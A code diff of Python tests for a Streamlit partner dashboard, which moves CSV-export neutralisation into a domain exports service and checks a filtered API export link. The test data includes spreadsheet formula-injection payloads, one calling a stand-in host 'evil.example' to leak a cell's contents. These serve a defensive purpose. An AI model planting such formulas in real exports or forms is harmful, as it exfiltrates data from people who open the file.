@@ -3,16 +3,12 @@
 Data is set up through the API (in-process) or the models; every decision the dashboard
 makes goes over HTTP to the API process, which applies the rules."""
 
-import csv as csv_module
-import io
 import re
 from datetime import UTC, datetime, timedelta
 
-import pandas as pd
 import pytest
 from streamlit import config as st_config
 
-from dashboard import show
 from domain import audit_chain, clock, events
 from domain.lifecycle import ContractKind, ContractStatus, RegistrationStatus, ReviewStatus
 from domain.models import (
@@ -25,6 +21,7 @@ from domain.models import (
     Partner,
     Role,
 )
+from domain.services import exports
 from tests.dashboard.conftest import signed_in_as
 from tests.gql import (
     APPROVE,
@@ -333,31 +330,28 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Verified")', "+1+1", "-
 
 @pytest.mark.parametrize("value", FORMULAS)
 def test_a_cell_that_starts_like_a_formula_exports_as_text(value):
-    assert show.csv_cell(value) == "'" + value
+    assert exports.csv_cell(value) == "'" + value
 
 
 @pytest.mark.parametrize("value", ["Acme Cloud GmbH", "a=b", "x+1", "", "'quoted", "株式会社アクメ", 42, -5, None])
 def test_other_cells_export_unchanged(value):
-    assert show.csv_cell(value) == value
+    assert exports.csv_cell(value) == value
 
 
-def test_the_csv_neutralises_every_cell_and_keeps_every_script():
-    table = pd.DataFrame({"Legal name": ["=1+1", "株式会社アクメ"], "Phone": ["+4930123456", "+81355550101"],
-                          "Days left": [-3, 40]})
-    rows = list(csv_module.reader(io.StringIO(show.csv(table).decode("utf-8-sig"))))
-    assert rows == [["Legal name", "Phone", "Days left"], ["'=1+1", "'+4930123456", "-3"],
-                    ["株式会社アクメ", "'+81355550101", "40"]]
-
-
-async def test_the_partner_list_exports_a_formula_as_text_and_streamlit_s_own_export_is_off(app, settings, manager, client):
+async def test_the_partner_list_downloads_the_whole_filtered_list_and_streamlit_s_own_export_is_off(
+    app, settings, manager, client
+):
     formula = '=HYPERLINK("http://evil.example","Verified partner")'
     await register(client, "evil@example.com", legalName=formula)
     at = await signed_in_as(app, settings, MANAGER)
     at.switch_page("views/partners.py").run()
-    shown = at.dataframe[0].value
-    assert list(shown["Legal name"]) == [formula]  # shown on screen as typed
-    assert [b.label for b in at.download_button] == ["Download CSV (this page)"]
-    assert f"'{formula}".replace('"', '""') in show.csv(shown).decode("utf-8-sig")
+    assert list(at.dataframe[0].value["Legal name"]) == [formula]  # shown on screen as typed
+    assert not at.download_button  # never this page, built here: the API's export (S-30)
+    [download] = at.link_button
+    assert (download.value, download.proto.url) == ("Download CSV (all 1)", "/export/partners.csv")
+    at.text_input(key="partners-search").input("HYPERLINK").run()
+    at.selectbox(key="partners-status").select("PENDING_REVIEW").run()
+    assert at.link_button[0].proto.url == "/export/partners.csv?registrationStatus=PENDING_REVIEW&search=HYPERLINK"
     assert st_config.get_option("client.disableDataExport") is True
     assert not at.exception
 
